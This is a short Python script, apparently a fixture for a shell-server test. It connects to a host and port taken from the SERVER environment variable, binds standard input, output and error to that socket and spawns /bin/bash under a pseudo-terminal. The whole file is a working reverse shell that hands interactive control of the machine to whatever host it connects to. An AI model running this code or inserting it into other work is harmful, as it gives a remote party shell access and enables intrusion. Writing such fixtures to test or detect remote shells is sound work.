# what: the shell gets a terminal of its own, and a loop carries bytes between it and the connection
# server: shell
import os, pty, socket

host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
s = socket.create_connection((host, int(port)))
out = os.dup(1)
for fd in range(3):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
os.write(out, b"done\n")
